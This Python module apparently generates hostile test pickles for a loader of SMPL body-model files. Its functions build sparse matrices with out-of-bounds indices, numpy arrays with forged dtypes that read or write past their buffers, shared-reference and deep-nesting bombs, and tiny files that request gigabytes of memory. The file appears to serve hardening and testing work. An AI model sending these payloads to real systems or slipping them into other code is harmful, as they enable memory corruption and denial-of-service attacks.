"""Crafted pickles that attack memory safety and resources, not code execution: sparse
matrices with out-of-range indices, forged numpy dtypes, shared-reference and size bombs.

Each builder returns the bytes of a pickle. The numpy/scipy objects are built the way a
hostile file describes them (through the same globals and BUILD states numpy writes), so
plain ``pickle.loads`` of them would hand numpy or scipy an object that reads or writes out
of bounds, or allocates what the file size does not justify.
"""

from __future__ import annotations

import pickle

import numpy as np


class _Reduce:
    def __init__(self, func, args, state=None):
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)


_RECONSTRUCT = type(np.ndarray.__reduce__(np.zeros(1))[0])  # numpy's _reconstruct function type
_reconstruct = np.ndarray.__reduce__(np.zeros(1))[0]


def forged_dtype(state: tuple, spec: str = "f8") -> _Reduce:
    """``numpy.dtype(spec)`` followed by BUILD with ``state`` (as numpy itself pickles a dtype)."""
    return _Reduce(np.dtype, (spec, False, True), state)


def forged_array(dtype_obj, shape: tuple, raw: bytes) -> _Reduce:
    """``_reconstruct(ndarray, (0,), b'b')`` + BUILD ``(1, shape, dtype, False, raw)``."""
    return _Reduce(_reconstruct, (np.ndarray, (0,), b"b"), (1, shape, dtype_obj, False, raw))


def smpl_with(model: dict, **changes) -> bytes:
    data = dict(model)
    data.update(changes)
    return pickle.dumps(data, protocol=2)


def sparse_bombs(model: dict) -> dict[str, bytes]:
    """SMPL files whose ``J_regressor`` (csc) would make scipy write or read out of bounds."""
    out = {}
    reg = model["J_regressor"].copy()
    reg.indices[:] = 2**30
    out["sparse indices 2**30"] = smpl_with(model, J_regressor=reg)
    reg = model["J_regressor"].copy()
    reg.indices[:] = -5
    out["sparse negative indices"] = smpl_with(model, J_regressor=reg)
    reg = model["J_regressor"].copy()
    reg.indptr[5] = reg.indptr[-1] + 1000
    out["sparse indptr past the data"] = smpl_with(model, J_regressor=reg)
    reg = model["J_regressor"].copy()
    reg.indptr[3], reg.indptr[4] = reg.indptr[4], reg.indptr[3]
    out["sparse indptr decreasing"] = smpl_with(model, J_regressor=reg)
    reg = model["J_regressor"].copy()
    reg._shape = (24, 10**9)
    out["sparse shape mismatch"] = smpl_with(model, J_regressor=reg)
    reg = model["J_regressor"].copy()
    reg.data = reg.data.astype(object)
    out["sparse object data"] = smpl_with(model, J_regressor=reg)
    return out


def dtype_bombs(model: dict) -> dict[str, bytes]:
    """SMPL files whose ``v_template`` has a forged dtype."""
    v = np.ascontiguousarray(model["v_template"], np.float64)
    raw = v.tobytes()
    far_field = forged_dtype((3, "|", None, ("x",), {"x": (np.dtype("<f8"), 16 << 20)}, 8, 1, 0), "V8")
    refcount_flag = forged_dtype((3, "<", None, None, None, -1, -1, 0x3F))
    subarray = forged_dtype((3, "|", (np.dtype("<f8"), (1 << 20,)), None, None, 8, 8, 0), "V8")
    wrong_size = forged_dtype((3, "<", None, None, None, 64, -1, 0), "V8")
    return {
        "dtype field 16 MB past the item": smpl_with(model, v_template=forged_array(far_field, v.shape, raw)),
        "float64 with the object flag": smpl_with(model, v_template=forged_array(refcount_flag, v.shape, raw)),
        "subarray dtype": smpl_with(model, v_template=forged_array(subarray, v.shape, raw)),
        "void dtype with a wrong size": smpl_with(model, v_template=forged_array(wrong_size, v.shape, raw)),
        "shape larger than the buffer": smpl_with(model, v_template=forged_array(
            np.dtype("<f8"), (6890 * 1000, 3), raw)),
        "object dtype": smpl_with(model, v_template=forged_array(np.dtype("O"), (1,), b"")),
    }


def shared_list_bomb(depth: int = 60) -> bytes:
    """Nested ``[x, x]``: a few hundred bytes, 2**depth leaves when copied into a tree."""
    x: list = [0]
    for _ in range(depth):
        x = [x, x]
    return pickle.dumps({"keypoints3d": x}, protocol=2)


def shared_tuple_key_bomb(depth: int = 60) -> bytes:
    """A dict key of nested ``(t, t)``: hashing it (which the C unpickler does) takes 2**depth steps."""
    ops = bytearray(b"\x80\x02}K\x01")
    for _ in range(depth):
        ops += b"q\x00h\x00\x86"  # BINPUT 0, BINGET 0, TUPLE2
    return bytes(ops + b"K\x02s.")


def deep_tuple_key(depth: int = 200_000) -> bytes:
    """A dict key nested ``depth`` tuples deep: hashing it recursively overflows the C stack."""
    return bytes(b"\x80\x02}K\x01" + b"\x85" * depth + b"K\x02s.")


def deep_list(depth: int = 200_000) -> bytes:
    return bytes(b"\x80\x02" + b"]" * (depth + 1) + b"a" * depth + b".")  # [[[...]]] via APPEND


def size_bombs() -> dict[str, bytes]:
    """Small pickles asking for gigabytes."""
    return {
        "ndarray shape 1e10": pickle.dumps({"keypoints3d": _Reduce(_reconstruct, (np.ndarray, (10**10,), b"b"))}),
        "bytearray(3e9)": pickle.dumps({"keypoints3d": _Reduce(bytearray, (3 * 10**9,))}),
        "bytes(3e9)": pickle.dumps({"keypoints3d": _Reduce(bytes, (3 * 10**9,))}),
        "list(range(1e10))": pickle.dumps({"keypoints3d": _Reduce(list, (range(10**10),))}),
        "shared [x, x] x60": shared_list_bomb(60),
        "shared (t, t) dict key x60": shared_tuple_key_bomb(60),
        "tuple key 200k deep": deep_tuple_key(),
        "list 200k deep": deep_list(),
        "reference cycle": pickle.dumps({"keypoints3d": (lambda a: (a.append(a), a)[1])([])}),
        "str of a shared bomb": pickle.dumps({"keypoints3d": _Reduce(str, (_shared(40),))}),
        "copies of copies": _copy_chain(),
    }


def _shared(depth: int):
    x: list = [0]
    for _ in range(depth):
        x = [x, x]
    return x


def _copy_chain(n: int = 20000) -> bytes:
    """``list(list(...(big)))``: each call copies a 10k list (the file holds it once)."""
    ops = bytearray(b"\x80\x02}X\x0b\x00\x00\x00keypoints3d")
    ops += b"c__builtin__\nlist\nq\x00" + b"](" + b"K\x01" * 10000 + b"eq\x01"
    for _ in range(n):
        ops += b"h\x00h\x01\x85Rq\x01"  # list(previous) -> memo 1
    return bytes(ops + b"s.")
